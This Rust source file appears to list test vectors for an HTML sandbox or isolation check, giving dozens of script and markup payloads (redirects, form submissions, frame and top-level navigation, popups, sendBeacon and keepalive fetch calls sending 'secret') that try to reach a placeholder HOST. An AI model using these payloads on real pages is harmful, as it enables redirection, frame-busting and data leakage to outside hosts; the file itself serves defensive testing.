//! Everything that leads somewhere.

use super::{Vector, alone, card, pressed};

pub(super) const VECTORS: &[Vector] = &[
    card("location.href", "<script>setTimeout(() => { location.href = 'http://HOST/x' }, 100)</script>"),
    card("location.assign", "<script>setTimeout(() => location.assign('http://HOST/x'), 100)</script>"),
    card("location.replace", "<script>setTimeout(() => location.replace('http://HOST/x'), 100)</script>"),
    card("open _self", "<script>setTimeout(() => open('http://HOST/x', '_self'), 100)</script>"),
    card(
        "native open",
        "<script>setTimeout(() => Window.prototype.open?.call(window, 'http://HOST/x', '_self'), 100);
        setTimeout(() => document.open('http://HOST/x', '_self', ''), 200)</script>",
    ),
    card(
        "navigation.navigate",
        "<script>setTimeout(() => navigation.navigate('http://HOST/x'), 100)</script>",
    ),
    card("meta refresh", "<meta http-equiv=refresh content='0; url=http://HOST/x'>"),
    card(
        "late meta refresh",
        "<script>setTimeout(() => { document.body.innerHTML = `<meta http-equiv=refresh content='0; url=http://HOST/x'>` }, 100)</script>",
    ),
    card("scripted click", "<a href=http://HOST/x>a</a><script>document.querySelector('a').click()</script>"),
    card(
        "scripted click on a detached link",
        "<script>setTimeout(() => Object.assign(document.createElement('a'), { href: 'http://HOST/x' }).click(), 100)</script>",
    ),
    card(
        "scripted click, handlers stopped",
        "<a href=http://HOST/x>a</a><script>addEventListener('click', (event) => event.stopImmediatePropagation(), true);
        document.querySelector('a').click()</script>",
    ),
    card(
        "ping, scripted click",
        "<a ping=http://HOST/x href=#x>a</a><script>document.querySelector('a').click()</script>",
    ),
    pressed("ping", "a", "<a ping=http://HOST/x href='#x'>press</a>"),
    pressed("link", "a", "<a href=http://HOST/x>press</a>"),
    alone(pressed("link _parent", "a", "<a target=_parent href=http://HOST/x>press</a>")),
    pressed("svg link", "a", "<svg width=90 height=30><a href=http://HOST/x><rect width=90 height=30 /></a></svg>"),
    pressed(
        "area",
        "img",
        "<map name=m><area shape=default href=http://HOST/x></map><img usemap=#m width=60 height=30
        src='data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=='>",
    ),
    pressed("link in a shadow root", "div", "<div style='display: inline-block'></div><script>
        document.querySelector('div').attachShadow({ mode: 'closed' }).innerHTML = '<a href=http://HOST/x>press</a>'</script>"),
    alone(pressed("link _top", "a", "<a target=_top href=http://HOST/x>press</a>")),
    pressed("download", "a", "<a download href=http://HOST/x>press</a>"),
    card("scripted download", "<a download href=http://HOST/x>a</a><script>document.querySelector('a').click()</script>"),
    pressed("form", "button", "<form action=http://HOST/x><button>press</button></form>"),
    pressed("form POST", "button", "<form method=post action=http://HOST/x><button name=a value=secret>press</button></form>"),
    pressed("formaction", "button", "<form><button formaction=http://HOST/x>press</button></form>"),
    alone(pressed("form _top", "button", "<form target=_top action=http://HOST/x><button>press</button></form>")),
    card("form.submit", "<form action=http://HOST/x></form><script>document.forms[0].submit()</script>"),
    card("form.requestSubmit", "<form action=http://HOST/x></form><script>document.forms[0].requestSubmit()</script>"),
    card(
        "form submitted by a made-up click",
        "<form action=http://HOST/x><button>b</button></form><script>document.querySelector('button').click()</script>",
    ),
    card(
        "form into a frame",
        "<iframe name=inner></iframe><form target=inner action=http://HOST/x></form>
        <script>HTMLFormElement.prototype.submit.call(document.forms[0])</script>",
    ),
    card(
        "frame navigated by its parent",
        "<iframe></iframe><script>document.querySelector('iframe').contentWindow.location = 'http://HOST/x'</script>",
    ),
    card("frame navigates itself", "<iframe srcdoc=\"<script>location = 'http://HOST/x'</script>\"></iframe>"),
    card("javascript:", "<script>setTimeout(() => { location = `javascript:'<img src=http://HOST/x>'` }, 100)</script>"),
    card("data:", "<script>setTimeout(() => { location = 'data:text/html,<img src=http://HOST/x>' }, 100)</script>
        <iframe src='data:text/html,<img src=http://HOST/y>'></iframe>"),
    card(
        "blob:",
        "<script>setTimeout(() => { location = URL.createObjectURL(new Blob(['<img src=http://HOST/x>'], { type: 'text/html' })) }, 100)</script>",
    ),
    card(
        "about:blank, then back",
        "<script>setTimeout(() => { location = 'about:blank' }, 100);
        addEventListener('pagehide', () => navigator.sendBeacon('http://HOST/x', 'secret'))</script>",
    ),
    card(
        "sent while it is closed",
        "<script>addEventListener('pagehide', () => fetch('http://HOST/x', { keepalive: true, mode: 'no-cors' }).catch(() => {}));
        setTimeout(() => location.reload(), 200)</script>",
    ),
    card(
        "history",
        "<script>history.pushState(null, '', '#secret'); setTimeout(() => history.back(), 50);
        setTimeout(() => { history.pushState(null, '', '#a'); location.replace('http://HOST/x') }, 200)</script>",
    ),
    card("popup", "<script>open('http://HOST/x')</script>"),
    card("popup noopener", "<script>open('http://HOST/x', '', 'noopener')</script>"),
    alone(card("top.location", "<script>setTimeout(() => { top.location = 'http://HOST/x' }, 300)</script>")),
    alone(card("top.location.replace", "<script>setTimeout(() => top.location.replace('http://HOST/x'), 300)</script>")),
    alone(card("parent.location", "<script>setTimeout(() => { parent.location = 'http://HOST/x' }, 300)</script>")),
    alone(card(
        "open _top",
        "<script>setTimeout(() => open('http://HOST/x', '_top'), 300); setTimeout(() => open('http://HOST/x', '_parent'), 400)</script>")),
    alone(card(
        "another frame of the page",
        "<script>setTimeout(() => { for (let i = 0; i < top.length; i++) if (top[i] !== parent || top === parent)
        try { top[i].location = 'http://HOST/x' } catch {} }, 300);
        setTimeout(() => { parent.frames[0].location = 'http://HOST/y' }, 400)</script>")),
    pressed("link _blank", "a", "<a target=_blank href=http://HOST/x>press</a>"),
    pressed("link _blank noopener", "a", "<a target=_blank rel=noopener href=http://HOST/x>press</a>"),
    pressed("form _blank", "button", "<form target=_blank action=http://HOST/x><button>press</button></form>"),
    pressed("popup on a press", "button", "<button onclick=\"open('http://HOST/x')\">press</button>"),
];
